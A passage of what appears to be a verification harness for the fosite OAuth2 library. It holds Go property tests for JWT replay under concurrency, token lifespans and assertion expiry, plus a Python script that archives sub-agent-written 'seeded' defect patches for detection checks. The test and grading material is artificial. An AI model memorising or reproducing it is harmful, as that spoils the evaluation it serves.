			} else if len(fatal) == 0 && len(defects) == 0 && !postDated {
				h.Violate(rt, "C15/jwt-bearer/valid-refused", "a completely valid JWT-bearer assertion was refused: %v %s\n%s", tr.Err, tr.Err.Hint, strings.Join(log, "\n"))
			}
		}
		h.Case("C15/bearer/"+strings.Join(shape, ";"), nontrivial, func() any { return map[string]any{"kind": "jwt_bearer", "store": store, "history": log} })
	})
	h.MarkCompleted()
}

// TestC15_ConcurrentPresentations: the schedule engine below owns the order of *storage calls*; what happens inside
// one storage call (a lookup and an insert under two separate lock sections, say) is below its resolution. Here the
// same assertion is presented by several goroutines at the same instant, through the provider and directly at the
// store, for many rounds with real parallelism. The oracle can not raise a false alarm: whatever the scheduler does,
// at most one presentation of a jti may be accepted.
func TestC15_ConcurrentPresentations(t *testing.T) {
	h.SetProperty("C15")
	selfTest(t)
	rounds := 1500
	if Tier() == "thorough" {
		rounds = 30000
	}
	si, _ := shardInfo()
	const nG = 6
	ctx := context.Background()
	for _, store := range []string{"mem"} {
		h.ClockReset()
		w, _ := c15World(store, nil)
		for r := 0; r < rounds; r++ {
			kind := []string{"client_assertion", "jwt_bearer", "store"}[(r+si)%3]
			jti := fmt.Sprintf("conc-%d-%d", si, r)
			now := h.Now()
			var present func() bool
			switch kind {
			case "client_assertion":
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "kid-1", map[string]interface{}{"iss": "jwt-client", "sub": "jwt-client", "aud": h.TokenURL, "jti": jti, "exp": now.Add(300e9).Unix(), "iat": now.Unix()})
				present = func() bool {
					tr := w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}, "client_assertion_type": {assertionType}, "client_assertion": {a}}, h.Auth{}, h.TokenOpts{})
					return tr.OK() || tr.Access != ""
				}
			case "jwt_bearer":
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "bk-1", map[string]interface{}{"iss": "trusted-issuer", "sub": "user-1", "aud": []string{h.TokenURL}, "jti": jti, "exp": now.Add(300e9).Unix(), "iat": now.Unix()})
				present = func() bool {
					tr := w.Token(url.Values{"grant_type": {jwtBearerGrant}, "assertion": {a}, "scope": {"a"}}, w.BasicFor("plain"), h.TokenOpts{Session: h.NewSess("")})
					return tr.OK() || tr.Access != ""
				}
			default:
				present = func() bool { return w.Mem.SetClientAssertionJWT(ctx, jti, now.Add(time.Hour)) == nil }
			}
			var wins int64
			var start, done sync.WaitGroup
			start.Add(1)
			for g := 0; g < nG; g++ {
				done.Add(1)
				go func() {
					defer done.Done()
					start.Wait()
					if present() {
						atomic.AddInt64(&wins, 1)
					}
				}()
			}
			start.Done()
			done.Wait()
			if wins > 1 {
				h.Violate(t, "C15/concurrent/jti-accepted-twice", "%d simultaneous presentations of one %s (jti %s): %d were accepted (round %d)", nG, kind, jti, wins, r)
			}
			if wins == 0 {
				t.Fatalf("VERIF-INFRA: no presentation of a fresh %s was accepted (round %d)", kind, r)
			}
		}
		h.CaseN(rounds)
	}
	for _, k := range []string{"client_assertion", "jwt_bearer", "store"} {
		k := k
		h.Case("C15/concurrent/"+k, true, func() any {
			return map[string]any{"kind": "concurrent presentations", "what": k, "goroutines": nG, "rounds_per_shard": rounds}
		})
	}
	h.MarkCompleted()
}

// TestC15_Schedules: two or three simultaneous presentations of the same
// assertion; every interleaving of their storage steps (exhaustive for pairs,
// bounded DFS prefix for triples): at most one may succeed.
func TestC15_Schedules(t *testing.T) {
	h.SetProperty("C15")
	selfTest(t)
	si, sn := shardInfo()
	type scen struct {
		kind  string // "client_assertion" | "jwt_bearer"
		n     int
		store string
	}
	var scens []scen
	for _, k := range []string{"client_assertion", "jwt_bearer"} {
		for _, st := range []string{"mem", "tx"} {
			scens = append(scens, scen{k, 2, st}, scen{k, 3, st})
		}
	}
	maxRuns := 3000
	if Tier() == "thorough" {
		maxRuns = 60000
	}
	for idx, sc := range scens {
		if idx%sn != si {
			continue
		}
		runs, exhausted := h.ExploreSchedules(maxRuns, func(choose func([]int) int) {
			h.ClockReset()
			w, _ := c15World(sc.store, func(c *fosite.Config) { c.GrantTypeJWTBearerCanSkipClientAuth = true })
			now := h.Now()
			var form url.Values
			if sc.kind == "client_assertion" {
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "kid-1", map[string]interface{}{"iss": "jwt-client", "sub": "jwt-client", "aud": h.TokenURL, "jti": "same-jti", "exp": now.Add(time.Minute).Unix()})
				form = url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}, "client_assertion_type": {assertionType}, "client_assertion": {a}}
			} else {
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "bk-1", map[string]interface{}{"iss": "trusted-issuer", "sub": "user-1", "aud": []string{h.TokenURL}, "jti": "same-jti", "exp": now.Add(time.Minute).Unix(), "iat": now.Unix()})
				form = url.Values{"grant_type": {jwtBearerGrant}, "assertion": {a}, "scope": {"a"}}
			}
			results := make([]*h.TokenResult, sc.n)
			ops := make([]func(), sc.n)
			for i := 0; i < sc.n; i++ {
				i := i
				ops[i] = func() {
					f := url.Values{}
					for k, v := range form {
						f[k] = v
					}
					results[i] = w.Token(f, h.Auth{}, h.TokenOpts{Session: h.NewSess("")})
				}
			}
			s, stuck := h.RunSchedule(w, ops, choose)
			if stuck {
				t.Fatalf("VERIF-INFRA: schedule stuck: %v", s.Trace)
			}
			ok := 0
			for _, r := range results {
				if r != nil && r.OK() {
					ok++
				}
			}
			// alternation: do the storage steps of different presentations interleave?
			alternates := false
			for j := 2; j < len(s.Trace); j++ {
				if s.Trace[j][0] == s.Trace[j-2][0] && s.Trace[j][0] != s.Trace[j-1][0] {
					alternates = true
				}
			}
			h.Case(fmt.Sprintf("C15/sched/%s/%d/%s/%s", sc.kind, sc.n, sc.store, strings.Join(s.Trace, ",")), alternates, func() any {
				return map[string]any{"kind": "schedule", "assertion": sc.kind, "presentations": sc.n, "store": sc.store, "storage_step_order": s.Trace, "successes": ok}
			})
			if len(s.Panics) > 0 {
				h.Violate(t, "C15/schedule/panic", "panic under schedule %v: %v", s.Trace, s.Panics)
			}
			if ok > 1 {
				h.Violate(t, "C15/schedule/jti-accepted-twice", "%d simultaneous presentations of the same %s (store %s) succeeded %d times under storage-step order %v", sc.n, sc.kind, sc.store, ok, s.Trace)
			}
			if ok == 0 {
				h.Violate(t, "C15/schedule/none-accepted", "none of %d simultaneous presentations of a valid %s succeeded under %v", sc.n, sc.kind, s.Trace)
			}
		})
		h.LabelN(fmt.Sprintf("schedules/%s/%d/%s", sc.kind, sc.n, sc.store), runs)
		h.SetExhaustive(fmt.Sprintf("all interleavings of the storage steps of %d presentations of one %s on store %s", sc.n, sc.kind, sc.store), exhausted)
	}
	h.MarkCompleted()
}
