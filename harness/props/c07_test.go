package props

import (
	"fmt"
	"net/url"
	"strings"
	"testing"
	"time"

	"github.com/ory/fosite"
	"github.com/ory/fosite/storage"
	"pgregory.net/rapid"

	"verifharness/h"
)

// C07 (second check) — lifetimes advertised in responses are the instants at
// which credentials stop being honoured, and per-client overrides take
// precedence over server defaults exactly for their grant/token-type pair.

var lifespanPairs = []string{"code/at", "code/id", "code/rt", "cc/at", "implicit/at", "implicit/id", "jwt/at", "password/at", "password/rt", "refresh/at", "refresh/id", "refresh/rt"}

const fpRTInherit = "C07/lifespan/unlimited-refresh-inherits-previous-expiry"

// probeRTInherit: deterministic reproduction of the listed known finding: server default refresh lifetime -1,
// per-client override for (authorization_code, refresh_token) = 5 min; code -> refresh; the refresh token minted by
// the refresh grant (lifetime: unlimited) dies 5 minutes after the *first* one was issued.
func probeRTInherit() bool {
	h.ClockReset()
	defer h.ClockReset()
	w := h.NewWorld(h.Spec{RefreshScopes: []string{}, Mutate: func(c *fosite.Config) { c.RefreshTokenLifespan = -1 }})
	cl := stdClient("life", false)
	cl.Secret = w.HashSecret("s")
	d := 5 * time.Minute
	cl.Life = &fosite.DefaultClientWithCustomTokenLifespans{DefaultClient: cl.DefaultClient, TokenLifespans: &fosite.ClientLifespanConfig{AuthorizationCodeGrantRefreshTokenLifespan: &d}}
	w.AddClient(cl, "s")
	ar := w.Authorize(url.Values{"client_id": {"life"}, "response_type": {"code"}, "state": {"state-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"offline a"}}, h.Consent{})
	tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {ar.Code}, "redirect_uri": {redirectURI}}, w.BasicFor("life"), h.TokenOpts{})
	tr2 := w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {tr.Refresh}}, w.BasicFor("life"), h.TokenOpts{})
	if tr2.Refresh == "" {
		return false
	}
	h.Advance(10 * time.Minute)
	return !w.IntrospectDirect(tr2.Refresh, fosite.RefreshToken).Active
}

func TestC07_Lifespans(t *testing.T) {
	h.SetProperty("C07")
	selfTest(t)
	h.Activate(fpRTInherit, probeRTInherit)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		defAT := time.Duration(rapid.SampledFrom([]int{0, 600, 7200}).Draw(rt, "defaultAccess")) * time.Second
		defRT := time.Duration(rapid.SampledFrom([]int{0, -1, 86400, 1800}).Draw(rt, "defaultRefresh")) * time.Second
		if defRT < 0 {
			defRT = -1
		}
		defID := time.Duration(rapid.SampledFrom([]int{0, 300, 5400}).Draw(rt, "defaultIDToken")) * time.Second
		jwtAccess := rapid.Bool().Draw(rt, "jwtAccess")
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		w := h.NewWorld(h.Spec{Store: store, JWTAccess: jwtAccess, RefreshScopes: []string{}, Mutate: func(c *fosite.Config) {
			c.AccessTokenLifespan, c.RefreshTokenLifespan, c.IDTokenLifespan = defAT, defRT, defID
			c.GrantTypeJWTBearerCanSkipClientAuth = false
		}})
		eff := func(d, dflt time.Duration) time.Duration {
			if d == 0 {
				return dflt
			}
			return d
		}
		defaults := map[string]time.Duration{"at": eff(defAT, time.Hour), "rt": eff(defRT, 30*24*time.Hour), "id": eff(defID, time.Hour)}
		// per-client overrides: a distinct value per pair so that a mix-up is visible
		over := map[string]time.Duration{}
		cfg := &fosite.ClientLifespanConfig{}
		set := func(pair string, d time.Duration) {
			over[pair] = d
			p := &d
			switch pair {
			case "code/at":
				cfg.AuthorizationCodeGrantAccessTokenLifespan = p
			case "code/id":
				cfg.AuthorizationCodeGrantIDTokenLifespan = p
			case "code/rt":
				cfg.AuthorizationCodeGrantRefreshTokenLifespan = p
			case "cc/at":
				cfg.ClientCredentialsGrantAccessTokenLifespan = p
			case "implicit/at":
				cfg.ImplicitGrantAccessTokenLifespan = p
			case "implicit/id":
				cfg.ImplicitGrantIDTokenLifespan = p
			case "jwt/at":
				cfg.JwtBearerGrantAccessTokenLifespan = p
			case "password/at":
				cfg.PasswordGrantAccessTokenLifespan = p
			case "password/rt":
				cfg.PasswordGrantRefreshTokenLifespan = p
			case "refresh/at":
				cfg.RefreshTokenGrantAccessTokenLifespan = p
			case "refresh/id":
				cfg.RefreshTokenGrantIDTokenLifespan = p
			case "refresh/rt":
				cfg.RefreshTokenGrantRefreshTokenLifespan = p
			}
		}
		withOverrides := rapid.IntRange(0, 4).Draw(rt, "clientHasOverrides") != 0
		for i, pair := range lifespanPairs {
			if withOverrides && rapid.IntRange(0, 2).Draw(rt, "override:"+pair) == 0 {
				set(pair, time.Duration(200+137*i)*time.Second)
			}
		}
		cl := stdClient("life", false)
		cl.Secret = w.HashSecret("s")
		cl.GrantTypes = append(cl.GrantTypes, jwtBearerGrant)
		if withOverrides {
			cl.Life = &fosite.DefaultClientWithCustomTokenLifespans{DefaultClient: cl.DefaultClient, TokenLifespans: cfg}
			if rapid.IntRange(0, 5).Draw(rt, "nilLifespanConfig") == 0 {
				cl.Life.TokenLifespans = nil
				over = map[string]time.Duration{}
			}
		}
		w.AddClient(cl, "s")
		w.AddUser("peter", "pw")
		w.Mem.IssuerPublicKeys["iss-1"] = storage.IssuerPublicKeys{Issuer: "iss-1", KeysBySub: map[string]storage.SubjectPublicKeys{
			"sub-1": {Subject: "sub-1", Keys: map[string]storage.PublicKeyScopes{"k1": {Key: jwkPtr(h.PublicJWK(h.RSAKey(1), "k1", "RS256")), Scopes: []string{"a"}}}}}}
		want := func(grant, tt string) time.Duration {
			if d, ok := over[grant+"/"+tt]; ok {
				return d
			}
			return defaults[tt]
		}
		var log []string
		logf := func(f string, a ...any) { s := fmt.Sprintf(f, a...); log = append(log, s); rt.Logf("%s", s) }
		fail := func(fp, f string, a ...any) {
			h.Violate(rt, fp, "%s\n--- case ---\n%s", fmt.Sprintf(f, a...), strings.Join(log, "\n"))
		}
		logf("defaults at=%v rt=%v id=%v jwt=%v store=%s overrides=%v", defaults["at"], defaults["rt"], defaults["id"], jwtAccess, store, over)
		type issued struct {
			grant           string
			access, refresh string
			at              time.Time
		}
		var toks []issued
		checkResp := func(grant string, access string, expiresIn int64, refresh, idt string) {
			now := h.Now()
			if access != "" {
				w1 := want(grant, "at")
				if d := time.Duration(expiresIn)*time.Second - w1; d > time.Second || d < -2*time.Second {
					fail("C07/lifespan/advertised-access", "grant %s: expires_in=%d, expected lifetime %v (override %v, default %v)", grant, expiresIn, w1, over[grant+"/at"], defaults["at"])
				}
				di := w.IntrospectDirect(access, fosite.AccessToken)
				if !di.Active {
					fail("C07/lifespan/fresh-token-inactive", "grant %s: fresh access token inactive: %v", grant, di.Err)
				} else if d := di.Exp.Sub(now.Add(w1)); d > 2*time.Second || d < -2*time.Second {
					fail("C07/lifespan/introspected-expiry", "grant %s: access token exp %v, expected now+%v", grant, di.Exp, w1)
				}
			}
			if idt != "" {
				_, claims, err := h.VerifyJWT(idt, &h.RSAKey(0).PublicKey)
				if err == nil {
					expF, _ := claims["exp"].(float64)
					w1 := want(grant, "id")
					if d := time.Unix(int64(expF), 0).Sub(now.Add(w1)); d > 2*time.Second || d < -2*time.Second {
						fail("C07/lifespan/id-token", "grant %s: ID token exp is now+%v, expected now+%v (override %v)", grant, time.Unix(int64(expF), 0).Sub(now), w1, over[grant+"/id"])
					}
				}
			}
			toks = append(toks, issued{grant, access, refresh, now})
		}
		flow := rapid.SampledFrom([]string{"code", "code", "implicit", "hybrid", "hybrid", "cc", "password", "jwt", "device"}).Draw(rt, "flow")
		var refreshTok string
		// lifetime source "session-provided": the integrator's session may pre-set the expiry of the access token that
		// the authorization endpoint issues (implicit / hybrid); the token endpoint computes its own
		var authzSess fosite.Session
		sessionAT := time.Duration(0)
		if (flow == "implicit" || flow == "hybrid") && rapid.IntRange(0, 2).Draw(rt, "sessionProvidedExpiry") == 0 {
			sessionAT = 913 * time.Second
			ss := h.NewSess("user-1")
			ss.SetExpiresAt(fosite.AccessToken, h.Now().Add(sessionAT))
			authzSess = ss
			logf("session pre-sets the access token expiry to now+%v", sessionAT)
			h.Label("life/session-provided-expiry")
		}
		switch flow {
		case "hybrid":
			rtype := rapid.SampledFrom([]string{"code token", "code id_token token", "code id_token"}).Draw(rt, "hybridType")
			ar := w.Authorize(url.Values{"client_id": {"life"}, "response_type": {rtype}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid offline a"}}, h.Consent{Session: authzSess})
			var secs int64
			fmt.Sscan(ar.Params.Get("expires_in"), &secs)
			logf("hybrid %q -> %v code=%v access=%v expires_in=%d", rtype, ar.Err, ar.Code != "", ar.Access != "", secs)
			if ar.Access != "" || ar.IDToken != "" {
				if sessionAT > 0 {
					over["implicit/at"] = sessionAT
				}
				checkResp("implicit", ar.Access, secs, "", ar.IDToken)
				if sessionAT > 0 {
					delete(over, "implicit/at")
					if cfg.ImplicitGrantAccessTokenLifespan != nil {
						over["implicit/at"] = *cfg.ImplicitGrantAccessTokenLifespan
					}
				}
			}
			if ar.Code != "" {
				h.Advance(time.Duration(rapid.SampledFrom([]int{0, 1, 40, 170}).Draw(rt, "beforeRedeem")) * time.Second)
				tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {ar.Code}, "redirect_uri": {redirectURI}}, w.BasicFor("life"), h.TokenOpts{})
				logf("redeem the hybrid code -> %v expires_in=%d", tr.Err, tr.ExpiresIn)
				if tr.OK() {
					checkResp("code", tr.Access, tr.ExpiresIn, tr.Refresh, tr.IDToken)
					refreshTok = tr.Refresh
				}
			}
		case "code":
			ar := w.Authorize(url.Values{"client_id": {"life"}, "response_type": {"code"}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid offline a"}}, h.Consent{})
			tr := w.Token(url.Values{"grant_type": {"authorization_code"}, "code": {ar.Code}, "redirect_uri": {redirectURI}}, w.BasicFor("life"), h.TokenOpts{})
			logf("code flow -> %v expires_in=%d", tr.Err, tr.ExpiresIn)
			if tr.OK() {
				checkResp("code", tr.Access, tr.ExpiresIn, tr.Refresh, tr.IDToken)
				refreshTok = tr.Refresh
			}
		case "implicit":
			ar := w.Authorize(url.Values{"client_id": {"life"}, "response_type": {"id_token token"}, "state": {"state-0123456789"}, "nonce": {"nonce-0123456789"}, "redirect_uri": {redirectURI}, "scope": {"openid a"}}, h.Consent{Session: authzSess})
			var secs int64
			fmt.Sscan(ar.Params.Get("expires_in"), &secs)
			logf("implicit flow -> %v expires_in=%d", ar.Err, secs)
			if ar.Access != "" {
				if sessionAT > 0 {
					over["implicit/at"] = sessionAT
				}
				checkResp("implicit", ar.Access, secs, "", ar.IDToken)
			}
		case "cc":
			tr := w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}}, w.BasicFor("life"), h.TokenOpts{})
			logf("client_credentials -> %v expires_in=%d", tr.Err, tr.ExpiresIn)
			if tr.OK() {
				checkResp("cc", tr.Access, tr.ExpiresIn, "", "")
			}
		case "password":
			tr := w.Token(url.Values{"grant_type": {"password"}, "username": {"peter"}, "password": {"pw"}, "scope": {"offline a"}}, w.BasicFor("life"), h.TokenOpts{Session: h.NewSess("")})
			logf("password -> %v expires_in=%d", tr.Err, tr.ExpiresIn)
			if tr.OK() {
				checkResp("password", tr.Access, tr.ExpiresIn, tr.Refresh, "")
				refreshTok = tr.Refresh
			}
		case "jwt":
			now := h.Now()
			a := h.MustSignJWT(h.RSAKey(1), "RS256", "k1", map[string]interface{}{"iss": "iss-1", "sub": "sub-1", "aud": []string{h.TokenURL}, "exp": now.Add(600e9).Unix(), "iat": now.Unix(), "jti": "life-jti"})
			tr := w.Token(url.Values{"grant_type": {jwtBearerGrant}, "assertion": {a}, "scope": {"a"}}, w.BasicFor("life"), h.TokenOpts{Session: h.NewSess("")})
			logf("jwt-bearer -> %v expires_in=%d", tr.Err, tr.ExpiresIn)
			if tr.OK() {
				checkResp("jwt", tr.Access, tr.ExpiresIn, "", "")
			}
		case "device":
			dr := w.DeviceAuth(url.Values{"client_id": {"life"}, "scope": {"openid offline a"}}, w.BasicFor("life"), h.Consent{})
			w.DeviceDecide(dr.UserCode, true, h.Consent{Session: h.NewSess("user-1")}, dr.DeviceCode)
			tr := w.Token(url.Values{"grant_type": {deviceGrant}, "device_code": {dr.DeviceCode}}, w.BasicFor("life"), h.TokenOpts{})
			logf("device -> %v expires_in=%d", tr.Err, tr.ExpiresIn)
			if tr.OK() {
				// no per-client setting exists for the device grant: server defaults apply whatever the other overrides say
				checkResp("device", tr.Access, tr.ExpiresIn, tr.Refresh, tr.IDToken)
				refreshTok = tr.Refresh
			}
		}
		if refreshTok != "" && rapid.Bool().Draw(rt, "thenRefresh") {
			h.Advance(time.Duration(rapid.SampledFrom([]int{1, 30, 150}).Draw(rt, "beforeRefresh")) * time.Second)
			tr := w.Token(url.Values{"grant_type": {"refresh_token"}, "refresh_token": {refreshTok}}, w.BasicFor("life"), h.TokenOpts{})
			logf("refresh -> %v expires_in=%d", tr.Err, tr.ExpiresIn)
			if tr.OK() {
				checkResp("refresh", tr.Access, tr.ExpiresIn, tr.Refresh, tr.IDToken)
			}
		}
		// both sides of the expiry of the newest credentials
		if len(toks) > 0 {
			last := toks[len(toks)-1]
			life := want(last.grant, "at")
			h.Advance(last.at.Add(life).Add(-4 * time.Second).Sub(h.Now()))
			if last.access != "" && !w.IntrospectDirect(last.access, fosite.AccessToken).Active {
				fail("C07/lifespan/refused-before-expiry", "grant %s: access token inactive 4 s before its advertised expiry (%v after issue)", last.grant, life)
			}
			h.Advance(8 * time.Second)
			if last.access != "" && w.IntrospectDirect(last.access, fosite.AccessToken).Active {
				fail("C07/expired-access-honoured", "grant %s: access token still active 4 s after its advertised expiry (%v after issue)", last.grant, life)
			}
			if last.refresh != "" {
				rl := want(last.grant, "rt")
				if rl < 0 {
					h.Advance(400 * 24 * time.Hour)
					if !w.IntrospectDirect(last.refresh, fosite.RefreshToken).Active {
						inherited := len(toks) > 1 && last.grant == "refresh" && want(toks[len(toks)-2].grant, "rt") >= 0
						if inherited {
							// listed known finding: the unlimited refresh-grant token inherits the finite expiry of the token it replaced
							h.Violate(rt, fpRTInherit, "refresh-grant refresh token (lifetime -1) inactive after 400 days: it inherited the expiry of the %s-grant token it replaced\n%s", toks[len(toks)-2].grant, strings.Join(log, "\n"))
						} else {
							fail("C07/lifespan/unlimited-refresh-expired", "grant %s: refresh token with lifetime -1 inactive after 400 days", last.grant)
						}
					}
				} else {
					h.Advance(last.at.Add(rl).Add(-4 * time.Second).Sub(h.Now()))
					if !w.IntrospectDirect(last.refresh, fosite.RefreshToken).Active {
						fail("C07/lifespan/refused-before-expiry", "grant %s: refresh token inactive 4 s before the end of its lifetime %v", last.grant, rl)
					}
					h.Advance(8 * time.Second)
					if w.IntrospectDirect(last.refresh, fosite.RefreshToken).Active {
						fail("C07/expired-refresh-honoured", "grant %s: refresh token active 4 s after the end of its lifetime %v (override %v, default %v)", last.grant, rl, over[last.grant+"/rt"], defaults["rt"])
					}
				}
			}
		}
		nOver := len(over)
		h.Case(fmt.Sprintf("C07/life/%s/%v/%v/%v/%v/%d/%d", flow, defaults["at"], defaults["rt"], defaults["id"], jwtAccess, nOver, len(toks)), nOver > 0 && len(toks) > 0, func() any {
			return map[string]any{"kind": "lifespans", "case": log}
		})
		h.Label("life/flow=" + flow)
		if len(toks) > 1 {
			h.Label("life/with-refresh")
		}
	})
	h.MarkCompleted()
}

// TestC07_AssertionExpiry: JWT assertions (private_key_jwt client assertions and JWT-bearer grants) are refused
// once their exp instant has passed, at every age on both sides of it.
func TestC07_AssertionExpiry(t *testing.T) {
	h.SetProperty("C07")
	selfTest(t)
	rapid.Check(t, func(rt *rapid.T) {
		h.ClockReset()
		kind := rapid.SampledFrom([]string{"client_assertion", "jwt_bearer"}).Draw(rt, "kind")
		store := rapid.SampledFrom([]string{"mem", "tx"}).Draw(rt, "store")
		w, _ := c15World(store, func(c *fosite.Config) {
			c.GrantTypeJWTBearerCanSkipClientAuth = true
			c.GrantTypeJWTBearerMaxDuration = 24 * time.Hour
		})
		life := time.Duration(rapid.SampledFrom([]int{5, 30, 60, 300, 3600}).Draw(rt, "lifetime")) * time.Second
		issued := h.Now()
		n := rapid.IntRange(1, 4).Draw(rt, "presentations")
		var log []string
		sawBefore, sawAfter := false, false
		for i := 0; i < n; i++ {
			off := rapid.SampledFrom([]int{-3, 3, 10, 30, 45, 58, 61, 90, 300, 3601, 86400}).Draw(rt, "secondsAroundExpiry")
			target := issued.Add(life).Add(time.Duration(off) * time.Second)
			if target.Before(h.Now()) {
				continue
			}
			h.Advance(target.Sub(h.Now()))
			jti := fmt.Sprintf("exp-%d-%s", i, rapid.StringMatching("[a-z]{6}").Draw(rt, "jti"))
			var tr *h.TokenResult
			if kind == "client_assertion" {
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "kid-1", map[string]interface{}{"iss": "jwt-client", "sub": "jwt-client", "aud": h.TokenURL, "jti": jti, "exp": issued.Add(life).Unix(), "iat": issued.Unix()})
				tr = w.Token(url.Values{"grant_type": {"client_credentials"}, "scope": {"a"}, "client_assertion_type": {assertionType}, "client_assertion": {a}}, h.Auth{}, h.TokenOpts{})
			} else {
				a := h.MustSignJWT(h.RSAKey(1), "RS256", "bk-1", map[string]interface{}{"iss": "trusted-issuer", "sub": "user-1", "aud": []string{h.TokenURL}, "jti": jti, "exp": issued.Add(life).Unix(), "iat": issued.Unix()})
				tr = w.Token(url.Values{"grant_type": {jwtBearerGrant}, "assertion": {a}, "scope": {"a"}}, h.Auth{}, h.TokenOpts{Session: h.NewSess("")})
			}
			log = append(log, fmt.Sprintf("%s with exp = issue+%v presented %+d s relative to exp -> %v", kind, life, off, tr.Err))
			rt.Logf("%s", log[len(log)-1])
			if off >= 3 {
				sawAfter = true
				if tr.OK() || tr.Access != "" {
					h.Violate(rt, "C07/expired-assertion-honoured", "a %s was honoured %d s after its exp\n%s", kind, off, strings.Join(log, "\n"))
				}
			} else {
				sawBefore = true
				if !tr.OK() {
					h.Violate(rt, "C07/assertion-refused-before-expiry", "a valid %s was refused %d s before its exp: %v %s\n%s", kind, -off, tr.Err, tr.Err.Hint, strings.Join(log, "\n"))
				}
			}
		}
		h.Case(fmt.Sprintf("C07/assertion/%s/%v/%s", kind, life, strings.Join(log, ";")), sawAfter, func() any { return map[string]any{"kind": "assertion-expiry", "case": log} })
		_ = sawBefore
		h.Label("assertion/" + kind)
	})
	h.MarkCompleted()
}
