#!/usr/bin/env python3
"""usage: seedkeep.py <ID> <X> <detected-by ...>  — copy a confirmed sub-agent change into /verif/seeded/<ID>-<X>/ with meta.json.
Reads the confirmation record from /tmp/seed/verify*.log."""
import sys, os, json, glob, shutil, re
SD = os.environ.get('SEEDDIR', '/tmp/seed')
ID, X = sys.argv[1], sys.argv[2]
det = sys.argv[3:]
rec = None
for f in sorted(glob.glob(SD+'/verify*.log')):
    for l in open(f):
        try:
            d = json.loads(l)
        except Exception:
            continue
        if d.get('id') == ID and d.get('change') == X:
            rec = d
if not rec or not rec.get('confirmed'):
    print("not confirmed:", rec); sys.exit(1)
src = f'{SD}/{ID}.out/{X}'
dst = f'/verif/seeded/{ID}-{X}'
os.makedirs(dst, exist_ok=True)
for fn in ['patch.diff', 'demo_test.go', 'RUN.txt', 'NOTES.md']:
    shutil.copy(os.path.join(src, fn), os.path.join(dst, fn))
notes = open(os.path.join(src, 'NOTES.md')).read()
prop = open(f'{SD}/{ID}.out/PROPERTY.txt').readline().strip()
meta = {
    "property": ID,
    "property_title": prop,
    "origin": "written by an independent sub-agent that saw only the property text and a scratch worktree of /repo (nothing from /verif)",
    "needs_to_manifest": "see NOTES.md (trigger section)",
    "confirmed_by_me": {k: rec[k] for k in ['applies', 'builds', 'suite_passes_with_patch', 'demo_fails_with_patch', 'demo_passes_without_patch']},
    "what_i_ran": [
        f"tools/seedverify.py {ID} {X}  (scratch worktree /tmp/seed/{ID}: git apply, go build ./..., go test -vet=off -count=1 ./..., demo with and without the patch: {rec['demo_cmd']})",
        f"tools/seedrun.sh {ID} {X} {' '.join(det)}  (git -C /repo apply, ./check run <id> --tier quick, git -C /repo checkout -- .)",
    ],
    "detected_by_quick_checks": det,
}
json.dump(meta, open(os.path.join(dst, 'meta.json'), 'w'), indent=1)
print("kept", dst)
