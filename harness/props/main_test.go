package props

import (
	"encoding/json"
	"fmt"
	"net/url"
	"os"
	"sort"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/go-jose/go-jose/v3"
	"github.com/ory/fosite"
	"verifharness/h"
)

func TestMain(m *testing.M) {
	code := m.Run()
	h.FlushStats()
	os.Exit(code)
}

// Tier is "quick" or "thorough" (VERIF_TIER).
func Tier() string {
	if os.Getenv("VERIF_TIER") == "thorough" {
		return "thorough"
	}
	return "quick"
}

func stdClient(id string, public bool) *h.HClient {
	return &h.HClient{DefaultOpenIDConnectClient: &fosite.DefaultOpenIDConnectClient{DefaultClient: &fosite.DefaultClient{
		ID:            id,
		RedirectURIs:  []string{"https://rp.example/cb"},
		GrantTypes:    []string{"authorization_code", "refresh_token", "implicit", "client_credentials", "password", "urn:ietf:params:oauth:grant-type:device_code"},
		ResponseTypes: []string{"code", "token", "id_token", "code token", "code id_token", "id_token token", "code id_token token"},
		Scopes:        []string{"openid", "offline", "offline_access", "a", "b", "c"},
		Audience:      []string{"https://api.example/v1", "https://other.example"},
		Public:        public,
	}, TokenEndpointAuthMethod: "client_secret_basic"}}
}

// TestSelfClock checks that the build overlay really routes fosite's clock
// reads through the virtual clock. Every property test calls selfTest first;
// a failure here is an infrastructure problem (exit 2), never a violation.
func selfTestErr() error {
	h.ClockReset()
	w := h.NewWorld(h.Spec{})
	c := stdClient("self", false)
	c.Secret = w.HashSecret("s3cret")
	w.AddClient(c, "s3cret")
	r := fosite.NewRequest()
	if !r.RequestedAt.Equal(h.Now().UTC()) {
		return fmt.Errorf("fosite.NewRequest().RequestedAt=%v is not the virtual now %v: overlay not active", r.RequestedAt, h.Now())
	}
	_ = w
	_ = time.Second
	_ = url.Values{}
	h.ClockReset()
	return nil
}

func selfTest(t *testing.T) {
	t.Helper()
	if err := selfTestErr(); err != nil {
		fmt.Println("VERIF-INFRA: " + err.Error())
		t.Fatalf("VERIF-INFRA: %v", err)
	}
}

func TestSelf(t *testing.T) { selfTest(t) }

func jwkPtr(k jose.JSONWebKey) *jose.JSONWebKey { return &k }

func jsonMarshal(v any) ([]byte, error) { return json.Marshal(v) }

func sortStrings(l []string) { sort.Strings(l) }

// perByteValid replaces every invalid UTF-8 byte by U+FFFD (what encoding/json and html/template emit).
func perByteValid(s string) string {
	var b strings.Builder
	for i := 0; i < len(s); {
		r, sz := utf8.DecodeRuneInString(s[i:])
		if r == utf8.RuneError && sz == 1 {
			b.WriteString("�")
		} else {
			b.WriteString(s[i : i+sz])
		}
		i += sz
	}
	return b.String()
}

// hasExact: plain string membership. (fosite.Arguments.Has compares case-insensitively; an oracle must not borrow
// the implementation's helper, and scope / audience values are case-sensitive.)
